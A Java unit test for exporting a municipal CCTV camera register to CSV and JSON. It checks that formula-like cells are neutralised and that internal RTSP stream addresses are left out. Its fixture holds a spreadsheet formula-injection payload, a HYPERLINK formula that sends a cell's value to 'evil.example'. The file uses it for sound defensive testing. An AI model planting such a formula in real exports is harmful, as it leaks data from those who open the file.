package nl.poortwachter.recorder.register;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import nl.poortwachter.recorder.register.ImportPlan.Action;
import nl.poortwachter.recorder.register.RegisterExport.CsvStyle;
import nl.poortwachter.recorder.register.csv.CsvWriter;
import org.junit.jupiter.api.Test;

class RegisterExportTest {
    private static final String BOM = "\uFEFF";
    /** Cells a spreadsheet would run as formulas, a cell with the separator and quotes, and stream URLs. */
    private static final List<RegisterEntry> REGISTER = List.of(
            new RegisterEntry("UT-001", "Neude 1", new BigDecimal("52.09347"), new BigDecimal("5.11865"),
                    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")", "Openbare orde; toezicht", "gemeentewet-151c",
                    "@Hikvision", "-DS-2CD2143G2-I", "+V5.7.3", "DS123", true, "VLAN 120", "Veiligheid", "DPIA-2024-03",
                    LocalDate.of(2024, 3, 15), 14, true, "rtsp://10.20.1.15:554/Streaming/Channels/101"),
            new RegisterEntry("UT-002", "Café \"De Poort\"", new BigDecimal("-1.5"), new BigDecimal("-0.25"),
                    null, null, null, null, null, null, null, false, null, null, null, null, null, false,
                    "rtsp://10.20.1.16/cam/realmonitor?channel=1&subtype=0"));

    @Test
    void dutchCsvNeutralisesFormulasAndLeavesOutUrls() {
        String csv = new String(RegisterExport.csv(REGISTER, CsvStyle.DUTCH), StandardCharsets.UTF_8);
        assertEquals(BOM
                + "Kenmerk;Locatie (straat);Breedtegraad;Lengtegraad;Omschrijving;Doel;Grondslag;Leverancier;Model;Firmware;"
                + "Serienummer;Gesloten netwerk;Netwerksegment;Afdeling;DPIA;Installatiedatum;Bewaartermijn (dagen);Openbaar\r\n"
                + "UT-001;Neude 1;52,09347;5,11865;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\";"
                + "\"Openbare orde; toezicht\";gemeentewet-151c;'@Hikvision;'-DS-2CD2143G2-I;'+V5.7.3;DS123;ja;VLAN 120;Veiligheid;"
                + "DPIA-2024-03;2024-03-15;14;ja\r\n"
                + "UT-002;\"Café \"\"De Poort\"\"\";-1,5;-0,25;;;;;;;;nee;;;;;;nee\r\n", csv);
    }

    @Test
    void englishCsvTheSameWithCommas() {
        String csv = new String(RegisterExport.csv(REGISTER, CsvStyle.ENGLISH), StandardCharsets.UTF_8);
        assertEquals(BOM
                + "Key,Location (street),Latitude,Longitude,Description,Purpose,Legal basis,Vendor,Model,Firmware,Serial number,"
                + "Closed network,Network segment,Department,DPIA reference,Installation date,Retention (days),Public\r\n"
                + "UT-001,Neude 1,52.09347,5.11865,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\","
                + "Openbare orde; toezicht,gemeentewet-151c,'@Hikvision,'-DS-2CD2143G2-I,'+V5.7.3,DS123,yes,VLAN 120,Veiligheid,"
                + "DPIA-2024-03,2024-03-15,14,yes\r\n"
                + "UT-002,\"Café \"\"De Poort\"\"\",-1.5,-0.25,,,,,,,,no,,,,,,no\r\n", csv);
    }

    @Test
    void jsonHasEveryExportedFieldAndNoUrl() {
        assertEquals("""
                [ {
                  "key" : "UT-001",
                  "location" : "Neude 1",
                  "latitude" : 52.09347,
                  "longitude" : 5.11865,
                  "description" : "=HYPERLINK(\\"http://evil.example/?\\"&A1;\\"klik\\")",
                  "purpose" : "Openbare orde; toezicht",
                  "legalRegime" : "gemeentewet-151c",
                  "vendor" : "@Hikvision",
                  "model" : "-DS-2CD2143G2-I",
                  "firmware" : "+V5.7.3",
                  "serialNumber" : "DS123",
                  "closedNetwork" : true,
                  "networkSegment" : "VLAN 120",
                  "department" : "Veiligheid",
                  "dpiaReference" : "DPIA-2024-03",
                  "installedOn" : "2024-03-15",
                  "retentionDays" : 14,
                  "public" : true
                }, {
                  "key" : "UT-002",
                  "location" : "Café \\"De Poort\\"",
                  "latitude" : -1.5,
                  "longitude" : -0.25,
                  "description" : null,
                  "purpose" : null,
                  "legalRegime" : null,
                  "vendor" : null,
                  "model" : null,
                  "firmware" : null,
                  "serialNumber" : null,
                  "closedNetwork" : false,
                  "networkSegment" : null,
                  "department" : null,
                  "dpiaReference" : null,
                  "installedOn" : null,
                  "retentionDays" : null,
                  "public" : false
                } ]""", RegisterExport.json(REGISTER).replace("\r\n", "\n"));
    }

    @Test
    void noExportCarriesAStreamAddress() {
        for (String out : List.of(new String(RegisterExport.csv(REGISTER, CsvStyle.DUTCH), StandardCharsets.UTF_8),
                new String(RegisterExport.csv(REGISTER, CsvStyle.ENGLISH), StandardCharsets.UTF_8), RegisterExport.json(REGISTER))) {
            String lower = out.toLowerCase(Locale.ROOT);
            assertFalse(lower.contains("rtsp"), out);
            assertFalse(lower.contains("10.20.1.1"), out);
            assertFalse(lower.contains("realmonitor"), out);
        }
    }

    @Test
    void anExportImportsBackUnchanged() {
        for (CsvStyle style : CsvStyle.values()) {
            ImportPlan plan = RegisterFixtures.plan(RegisterExport.csv(REGISTER, style), REGISTER);
            assertTrue(plan.applicable(), () -> style + ": " + plan.problems());
            assertEquals(2, plan.count(Action.UNCHANGED), () -> style + ": " + plan.rows());
        }
    }

    @Test
    void everyFormulaStartIsNeutralisedOnlyInTextCells() {
        CsvWriter w = new CsvWriter(';');
        w.record(List.of("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=b", "-1"), List.of(true, true, true, true, true, true, true, false));
        assertEquals("'=1+1;'+1;'-1;'@A1;'\tx;\"'\rx\";a=b;-1\r\n", w.toString());
    }
}
